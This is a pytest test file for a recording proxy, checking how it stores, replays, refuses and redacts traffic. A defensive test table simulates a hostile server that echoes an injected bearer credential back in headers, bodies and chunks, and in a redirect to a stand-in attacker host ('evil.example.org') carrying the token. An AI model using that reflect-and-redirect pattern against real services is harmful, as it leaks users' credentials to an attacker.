"""A recorder between real clients and real servers on loopback: what passes, what is kept, what is replayed."""

from __future__ import annotations

import gzip
import hashlib
import json
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path

import pytest

from hermit_proxy.request.key import Request
from hermit_proxy.run.events import Outcome
from hermit_proxy.snapshot.entry import Entry
from tests.support.origin import Asked, Origin, Response, text
from tests.support.recording import recording
from tests.support.testca import TestCA, make_ca

ALLOW = '- {pattern: "127.0.0.1:.*/.*", action: ALLOW}\n'
REFRESH = '- {pattern: "127.0.0.1:.*/.*", action: REFRESH}\n'
NO_STORE = '- {pattern: "127.0.0.1:.*/.*", action: NO_STORE}\n'


@pytest.fixture(scope="module")
def ca(tmp_path_factory: pytest.TempPathFactory) -> TestCA:
    return make_ca(tmp_path_factory.mktemp("ca"))


@pytest.fixture
def origin(ca: TestCA) -> Iterator[Origin]:
    with Origin(ca) as running:
        yield running


@pytest.mark.parametrize("size", [0, 1, 70_000, 5_000_000])
def test_a_body_comes_through_and_into_the_store(tmp_path: Path, origin: Origin, ca: TestCA, size: int) -> None:
    body = bytes(range(256)) * (size // 256) + b"x" * (size % 256)
    origin.route("/file", body)
    with recording(tmp_path, ALLOW, trust=ca.ca) as run:
        assert run.get(origin.url("127.0.0.1", "/file")).body == body
        event = run.last
        assert (event.outcome, event.status, event.size) == (Outcome.RECORDED, 200, size)
        assert event.entry is not None
        assert event.entry.sha256 == hashlib.sha256(body).hexdigest()
        assert run.session.store.read(event.entry.sha256) == body
        assert run.session.evidence.observed(event.entry)


def test_a_second_request_is_replayed_from_the_store(tmp_path: Path, origin: Origin, ca: TestCA) -> None:
    origin.route("/file", b"body")
    with recording(tmp_path, ALLOW, trust=ca.ca) as run:
        url = origin.url("127.0.0.1", "/file")
        assert [run.get(url).body, run.get(url).body] == [b"body", b"body"]
        assert [event.outcome for event in run.events] == [Outcome.RECORDED, Outcome.REPLAYED]
    assert origin.count("/file") == 1


def test_parallel_requests_are_fetched_once(
    tmp_path: Path, origin: Origin, ca: TestCA, monkeypatch: pytest.MonkeyPatch
) -> None:
    release, waiting = threading.Event(), threading.Semaphore(0)

    def slow(_asked: Asked) -> Response:
        release.wait(20)
        return text("once")

    origin.route("/slow", slow)
    with recording(tmp_path, ALLOW, trust=ca.ca) as run, ThreadPoolExecutor(4) as pool:
        flights = run.recorder._shared.flights
        wait = flights.wait

        async def telling(request: Request, key_url: str) -> tuple[bool, Entry | None]:
            waiting.release()
            return await wait(request, key_url)

        monkeypatch.setattr(flights, "wait", telling)
        answers = [pool.submit(run.get, origin.url("127.0.0.1", "/slow")) for _ in range(4)]
        followers = [waiting.acquire(timeout=20) for _ in range(3)]
        release.set()
        assert followers == [True] * 3
        assert {answer.result().body for answer in answers} == {b"once"}
        outcomes = sorted(event.outcome.value for event in run.events)
        assert outcomes == ["recorded", "replayed", "replayed", "replayed"]
    assert origin.count("/slow") == 1


def test_upstream_is_asked_for_the_whole_thing_plain_and_the_client_gets_its_part(
    tmp_path: Path, origin: Origin, ca: TestCA
) -> None:
    origin.route("/file", b"0123456789")
    with recording(tmp_path, ALLOW, trust=ca.ca) as run:
        url = origin.url("127.0.0.1", "/file")
        got = run.get(url, Range="bytes=2-4", If_None_Match='"x"', Accept_Encoding="gzip", Proxy_Connection="close")
        assert (got.status, got.body, got.headers["content-range"]) == (206, b"234", "bytes 2-4/10")
        event = run.last
        assert event.entry is not None
        assert (event.entry.status, event.entry.size, event.size) == (200, 10, 3)
    headers = origin.asked[0].headers
    assert headers["accept-encoding"] == "identity"
    assert not {"range", "if-none-match", "proxy-connection", "via"} & set(headers)


def test_head_and_negative_answers_are_recorded_without_bodies(tmp_path: Path, origin: Origin, ca: TestCA) -> None:
    origin.route("/file", b"0123456789")
    with recording(tmp_path, ALLOW, trust=ca.ca) as run:
        got = run.get(origin.url("127.0.0.1", "/file"), "HEAD")
        assert (got.status, got.headers["content-length"], got.body) == (200, "10", b"")
        assert run.get(origin.url("127.0.0.1", "/missing")).status == 404
        head, missing = [event.entry for event in run.events]
        assert head is not None
        assert missing is not None
        assert (head.method, head.size, head.sha256) == ("HEAD", 10, None)
        assert (missing.status, missing.size, missing.headers) == (404, None, ())
        assert list(run.session.store.bodies()) == []


@pytest.mark.parametrize("status", [500, 503, 429, 206])
def test_answers_for_now_pass_and_are_not_recorded(tmp_path: Path, origin: Origin, ca: TestCA, status: int) -> None:
    origin.route("/busy", text("later", status=status))
    with recording(tmp_path, ALLOW, trust=ca.ca) as run:
        assert run.get(origin.url("127.0.0.1", "/busy")).status == status
        event = run.last
        assert (event.outcome, event.entry) == (Outcome.PASSED, None)
        assert str(status) in (event.note or "")


def test_no_store_passes_and_keeps_nothing(tmp_path: Path, origin: Origin, ca: TestCA) -> None:
    origin.route("/file", b"x" * 100_000)
    with recording(tmp_path, NO_STORE, trust=ca.ca) as run:
        assert len(run.get(origin.url("127.0.0.1", "/file")).body) == 100_000
        assert (run.last.outcome, run.last.entry) == (Outcome.PASSED, None)
        assert list(run.session.store.bodies()) == []


@pytest.mark.parametrize("rules", [ALLOW, REFRESH, NO_STORE])
def test_a_token_is_recorded_as_the_fact_that_there_was_one(
    tmp_path: Path, origin: Origin, ca: TestCA, rules: str
) -> None:
    token = json.dumps({"token": "geheim-geheim"})
    origin.route("/token", text(token, "application/json"))
    with recording(tmp_path, rules, trust=ca.ca) as run:
        assert run.get(origin.url("127.0.0.1", "/token?service=r")).body == token.encode()
        entry = run.last.entry
        assert entry is not None
        assert (entry.stand_in, entry.sha256) == ("token", None)
        assert list(run.session.store.bodies()) == []
        assert run.get(origin.url("127.0.0.1", "/token?service=r")).body == token.encode()
        assert b"geheim" not in (run.rundir / "requests.jsonl").read_bytes()
    assert origin.count("/token") == 2


def test_a_post_is_told_from_another_by_its_body(tmp_path: Path, origin: Origin, ca: TestCA) -> None:
    origin.route("/search", lambda asked: text(asked.body))
    with recording(tmp_path, ALLOW, trust=ca.ca) as run:
        url = origin.url("127.0.0.1", "/search")
        assert [run.get(url, "POST", body).body for body in (b"one", b"two", b"one")] == [b"one", b"two", b"one"]
        assert [event.outcome.value for event in run.events] == ["recorded", "recorded", "replayed"]
        assert run.events[0].body != run.events[1].body


def test_the_wire_carries_the_normalised_form(tmp_path: Path, origin: Origin, ca: TestCA) -> None:
    origin.route("/a/b", b"x")
    with recording(tmp_path, ALLOW, trust=ca.ca) as run:
        run.get(origin.url("127.0.0.1", "/x/..//a/./%62"))
        assert run.last.url == origin.url("127.0.0.1", "/a/b")
    assert origin.asked[0].target == "/a/b"


@pytest.mark.parametrize(
    ("rules", "status", "word", "broken"),
    [
        ("- {pattern: other.example.org/.*, action: ALLOW}\n", 403, "no rule admits it", True),
        ('- {pattern: "127.0.0.1:.*/.*", action: REJECT}\n', 403, "a rule rejects it", False),
        ('- {pattern: "127.0.0.1:.*/.*", action: LOCKED}\n', 403, "the snapshot does not have it", True),
    ],
)
def test_what_the_rules_do_not_admit_is_refused_and_nothing_is_dialled(  # noqa: PLR0917  a table's columns
    tmp_path: Path, origin: Origin, ca: TestCA, rules: str, status: int, word: str, broken: bool
) -> None:
    with recording(tmp_path, rules, trust=ca.ca) as run, run.client() as client:
        client.tunnel(f"127.0.0.1:{origin.port}")
        for _ in range(2):  # The connection is good for more.
            client.send(f"GET /file HTTP/1.1\r\nHost: 127.0.0.1:{origin.port}\r\n\r\n".encode())
            got = client.receive()
            assert (got.status, got.headers["x-hermit"]) == (status, "refused")
            assert word.encode() in got.body
        assert [(e.outcome, e.broken, e.reason) for e in run.events] == [(Outcome.REFUSED, broken, word)] * 2
    assert origin.asked == []


def test_a_step_without_network_gets_nothing(tmp_path: Path, origin: Origin, ca: TestCA) -> None:
    with recording(tmp_path, ALLOW, trust=ca.ca) as run:
        run.session.begin_step("test", "none")
        assert run.get(origin.url("127.0.0.1", "/file")).status == 403
        assert (run.last.step, run.last.reason) == ("test", "this step has no network")
    assert origin.asked == []


def test_a_signature_is_cut_from_a_redirect_and_put_back_upstream(tmp_path: Path, origin: Origin, ca: TestCA) -> None:
    signed = "/blob?X-Amz-Signature=geheim&X-Amz-Expires=60&part=1"
    origin.route("/file", Response(b"", 302, {"location": signed}))
    origin.route("/blob", lambda asked: text("good" if "Signature=geheim" in asked.target else "bad"))
    with recording(tmp_path, ALLOW, trust=ca.ca) as run:
        location = run.get(origin.url("127.0.0.1", "/file")).headers["location"]
        assert location == origin.url("127.0.0.1", "/blob?part=1")
        assert run.get(location).body == b"good"
        assert [event.outcome.value for event in run.events] == ["recorded", "recorded"]
        assert b"geheim" not in (run.rundir / "requests.jsonl").read_bytes()


def test_a_folded_redirect_stays_on_its_own_url_and_its_target_needs_a_rule(tmp_path: Path, ca: TestCA) -> None:
    with Origin(ca) as first, Origin(ca) as second:
        second.route("/signed-in-path/x", b"good")
        first.route("/file", Response(b"", 302, {"location": second.url("127.0.0.1", "/signed-in-path/x")}))
        rule = f'- {{pattern: "127.0.0.1:{first.port}/.*", action: ALLOW, fold_redirect: true}}\n'
        other = f'- {{pattern: "127.0.0.1:{second.port}/.*", action: ALLOW}}\n'
        for name, rules, status in (("closed", rule, 403), ("open", rule + other, 200)):
            (tmp_path / name).mkdir()
            with recording(tmp_path / name, rules, trust=ca.ca) as run:
                location = run.get(first.url("127.0.0.1", "/file")).headers["location"]
                assert location == first.url("127.0.0.1", "/file?hermit-fold=1")
                assert run.get(location).status == status
        assert second.count("/signed-in-path/x") == 1


def test_a_credential_in_the_query_is_refused_unless_the_rule_drops_it(
    tmp_path: Path, origin: Origin, ca: TestCA
) -> None:
    origin.route("/file", b"x")
    dropping = '- {pattern: "127.0.0.1:.*/.*", action: ALLOW, query: ignore}\n'
    hint = "`query: ignore`, or `query: [names]` without api_key, at the rule in line 2"
    for name, rules, status, told in (("kept", ALLOW, 403, hint), ("dropped", dropping, 200, None)):
        (tmp_path / name).mkdir()
        with recording(tmp_path / name, rules, trust=ca.ca) as run:
            assert run.get(origin.url("127.0.0.1", "/file?api_key=geheim")).status == status
            log = (run.rundir / "requests.jsonl").read_text()
            assert "geheim" not in log
            assert run.last.hint == told
    assert origin.count("/file") == 1


@pytest.mark.parametrize(
    ("extra", "word"), [("max_size: 10", "max_size"), ("min_age: 3d", "min_age")], ids=["announced", "young"]
)
def test_an_answer_that_the_rule_does_not_take_is_refused_whole(
    tmp_path: Path, origin: Origin, ca: TestCA, extra: str, word: str
) -> None:
    origin.route("/file", text("x" * 100, last_modified="Fri, 01 Jan 2100 00:00:00 GMT"))
    with recording(tmp_path, f'- {{pattern: "127.0.0.1:.*/.*", action: ALLOW, {extra}}}\n', trust=ca.ca) as run:
        got = run.get(origin.url("127.0.0.1", "/file"))
        assert (got.status, got.headers["x-hermit"]) == (403, "refused")
        assert word.encode() in got.body
        assert run.last.outcome is Outcome.REFUSED
        assert list(run.session.store.bodies()) == []


def _credential(folder: Path, port: int) -> Path:
    secret = folder / "secret"
    secret.write_text("correct-horse-battery\n")
    secret.chmod(0o600)
    file = folder / "credentials.yaml"
    file.write_text(
        f"credentials:\n  private:\n    host: https://127.0.0.1:{port}\n    path: /private\n"
        f"    secret_file: {secret}\n    as: bearer\n"
    )
    file.chmod(0o600)
    return file


def test_a_credential_is_added_on_the_way_out_and_shown_nowhere(tmp_path: Path, origin: Origin, ca: TestCA) -> None:
    origin.route("/private/x", lambda asked: text("yes" if "correct-horse" in asked.headers["authorization"] else "no"))
    rules = f'- {{pattern: "127.0.0.1:{origin.port}/private/.*", action: ALLOW, credential: private}}\n'
    bindings = _credential(tmp_path, origin.port)
    with recording(tmp_path, rules, trust=ca.ca, change=lambda s: replace(s, credentials=bindings)) as run:
        got = run.get(origin.url("127.0.0.1", "/private/x"), Authorization="Bearer of-the-client")
        assert got.body == b"yes"
        assert run.last.outcome is Outcome.RECORDED
        assert b"correct-horse" not in (run.rundir / "requests.jsonl").read_bytes()


REFLECTIONS = {
    "header": lambda asked: text("x", x_echo=asked.headers["authorization"]),
    "location": lambda asked: Response(
        b"", 302, {"location": f"https://evil.example.org/?a={asked.headers['authorization'][7:]}"}
    ),
    "body": lambda asked: text(f"you sent {asked.headers['authorization']}" + "x" * 100_000),
    "chunks": lambda asked: Response(
        chunks=iter([b"<", *(octet.encode() for octet in asked.headers["authorization"]), b">"])
    ),
    "not found": lambda asked: text(f"no {asked.headers['authorization']}", status=404),
}


@pytest.mark.parametrize("reflect", REFLECTIONS.values(), ids=REFLECTIONS.keys())
def test_an_answer_that_reflects_the_credential_does_not_reach_the_client(
    tmp_path: Path, origin: Origin, ca: TestCA, reflect: object
) -> None:
    origin.route("/private/x", reflect)  # type: ignore[arg-type]  # a table of routes
    rules = f'- {{pattern: "127.0.0.1:{origin.port}/private/.*", action: ALLOW, credential: private}}\n'
    bindings = _credential(tmp_path, origin.port)
    with recording(tmp_path, rules, trust=ca.ca, change=lambda s: replace(s, credentials=bindings)) as run:
        got = run.get(origin.url("127.0.0.1", "/private/x"))
        assert "correct-horse" not in f"{got.headers}{got.body!r}"
        assert got.status == 403 or not got.whole
        assert (run.last.outcome, run.last.entry) == (Outcome.REFUSED, None)
        assert list(run.session.store.bodies()) == []


@pytest.mark.parametrize(("coding", "refused"), [("gzip", True), ("identity, br", True), ("identity", False)])
def test_a_compressed_answer_to_a_credential_is_refused_because_nobody_can_look_into_it(
    tmp_path: Path, origin: Origin, ca: TestCA, coding: str, refused: bool
) -> None:
    origin.route(
        "/private/x",
        lambda asked: text(gzip.compress(asked.headers["authorization"].encode()), content_encoding=coding),
    )
    rules = f'- {{pattern: "127.0.0.1:{origin.port}/private/.*", action: ALLOW, credential: private}}\n'
    bindings = _credential(tmp_path, origin.port)
    with recording(tmp_path, rules, trust=ca.ca, change=lambda s: replace(s, credentials=bindings)) as run:
        got = run.get(origin.url("127.0.0.1", "/private/x"))
        assert (got.status, run.last.outcome) == ((403, Outcome.REFUSED) if refused else (200, Outcome.RECORDED))
        assert ("compressed" in (run.last.reason or "")) == refused
        assert len(list(run.session.store.bodies())) == (not refused)


def test_a_compressed_answer_without_a_credential_is_recorded_as_it_came(
    tmp_path: Path, origin: Origin, ca: TestCA
) -> None:
    packed = gzip.compress(b"x")
    origin.route("/file", text(packed, content_encoding="gzip"))
    with recording(tmp_path, ALLOW, trust=ca.ca) as run:
        assert run.get(origin.url("127.0.0.1", "/file")).body == packed
        assert run.last.outcome is Outcome.RECORDED


def test_plain_http_is_recorded_too(tmp_path: Path) -> None:
    with Origin() as plain:
        plain.route("/file", b"plain")
        with recording(tmp_path, ALLOW) as run:
            assert run.get(plain.url("127.0.0.1", "/file")).body == b"plain"
            assert run.last.outcome is Outcome.RECORDED
        assert plain.asked[0].target == "/file"
